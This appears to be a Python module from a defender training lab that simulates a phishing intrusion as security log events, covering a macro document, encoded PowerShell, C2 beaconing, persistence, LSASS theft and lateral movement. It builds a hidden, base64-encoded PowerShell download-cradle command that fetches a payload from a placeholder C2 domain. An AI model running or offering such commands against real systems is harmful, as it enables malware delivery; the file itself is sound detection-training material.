# Copyright (c) 2026 the contributors
# GNU General Public License v3.0+ (see https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later

"""Story ``intrusion``: a macro document in an email, an encoded PowerShell command, a beaconing
payload, persistence, LSASS and a second host."""

from __future__ import annotations

import base64
from datetime import datetime, timedelta

from defender_lab.world import evidence
from defender_lab.world.chapters import ENDPOINT, AlertPlan, Chapter
from defender_lab.world.indicators import Indicators
from defender_lab.world.intrusion_spread import (
    DROP,
    EDR,
    credential_theft,
    lateral_movement,
    persistence,
)
from defender_lab.world.mail import attach, mail
from defender_lab.world.processes import shell, start
from defender_lab.world.scene import Scene

NAME = "intrusion"
TABLES = (
    "EmailEvents",
    "EmailAttachmentInfo",
    "DeviceFileEvents",
    "DeviceProcessEvents",
    "DeviceNetworkEvents",
    "DeviceRegistryEvents",
    "DeviceEvents",
    "DeviceLogonEvents",
)


def tell(scene: Scene, indicators: Indicators, begin: datetime) -> Chapter:
    facts = indicators.intrusion
    device = scene.rng.choice(scene.workstations)
    user = device.owner
    at = begin
    # a supplier's own mailbox was taken over, so that every check of the sender passes
    received = at - timedelta(minutes=26)
    order = mail(
        scene,
        received,
        facts.sender,
        "Northwind Parts Orders",
        facts.sender_ip,
        user,
        "Purchase order Q3",
        [],
        AttachmentCount=1,
    )
    attach(scene, received, order, facts.document, facts.document_sha256, 184320)
    outlook = start(
        "OUTLOOK.EXE",
        '"OUTLOOK.EXE"',
        at - timedelta(hours=3),
        user,
        pid=scene.pid(),
        parent=shell(user, at),
    )
    local = f"C:\\Users\\{user.account}\\AppData\\Local"
    folder = f"{local}\\Microsoft\\Windows\\INetCache\\Content.Outlook\\QX71"
    document = {
        "FileName": facts.document,
        "FolderPath": f"{folder}\\{facts.document}",
        "SHA256": facts.document_sha256,
        "FileSize": 184320,
    }
    scene.on_device("DeviceFileEvents", at, device, outlook, "FileCreated", **document)
    at += timedelta(minutes=2)
    word = start(
        "WINWORD.EXE",
        f'"WINWORD.EXE" /n "{folder}\\{facts.document}" /o ""',
        at,
        user,
        pid=scene.pid(),
        parent=outlook,
    )
    scene.run(at, device, word, outlook)
    at += timedelta(seconds=11)
    script = (
        "IEX(New-Object"
        f" Net.WebClient).DownloadFile('https://{facts.c2_domain}/u/a.dat',"
        f"'{DROP}\\{facts.payload}')"
    )
    encoded = base64.b64encode(script.encode("utf-16-le")).decode()
    command = f"powershell.exe -NoP -NonI -W Hidden -EncodedCommand {encoded}"
    powershell = start("powershell.exe", command, at, user, pid=scene.pid(), parent=word)
    scene.run(at, device, powershell, word)
    scene.connect(
        at + timedelta(seconds=3),
        device,
        powershell,
        facts.c2_ip,
        f"https://{facts.c2_domain}/u/a.dat",
    )
    at += timedelta(seconds=6)
    drop = {
        "FileName": facts.payload,
        "FolderPath": f"{DROP}\\{facts.payload}",
        "SHA256": facts.payload_sha256,
        "SHA1": facts.payload_sha1,
    }
    scene.on_device(
        "DeviceFileEvents",
        at,
        device,
        powershell,
        "FileCreated",
        **drop,
        FileOriginUrl=f"https://{facts.c2_domain}/u/a.dat",
    )
    at += timedelta(seconds=20)
    payload = start(
        facts.payload,
        f"{DROP}\\{facts.payload}",
        at,
        user,
        pid=scene.pid(),
        folder=DROP,
        image=facts.payload_image,
        parent=powershell,
    )
    scene.run(at, device, payload, powershell)
    for beacon in range(12):
        moment = at + timedelta(minutes=5 * beacon, seconds=scene.rng.uniform(0, 20))
        scene.connect(moment, device, payload, facts.c2_ip, facts.c2_domain)
    executed = AlertPlan(
        "Suspicious PowerShell command line",
        "high",
        "Execution",
        ("T1059.001", "T1204.002", "T1071.001"),
        ENDPOINT,
        EDR,
        at,
        (
            evidence.device(device, at),
            evidence.user(user, at),
            evidence.message(order, [], at),
            evidence.process(word, device, at),
            evidence.process(powershell, device, at, "malicious"),
            evidence.file(facts.document, folder, facts.document_sha256, None, device, at),
            evidence.file(
                facts.payload, DROP, facts.payload_sha256, facts.payload_sha1, device, at
            ),
            evidence.ip(facts.c2_ip, at, verdict="malicious"),
            evidence.url(f"https://{facts.c2_domain}/u/a.dat", at),
        ),
        "An Office program started PowerShell with an encoded command that fetched a program.",
    )
    later = (
        persistence(scene, facts, at, payload),
        credential_theft(scene, at, payload),
        lateral_movement(scene, at, payload),
    )
    title = (
        "Multi-stage incident involving Execution & Lateral movement on multiple endpoints"
        " reported by multiple sources"
    )
    return Chapter(NAME, title, (executed, *later))
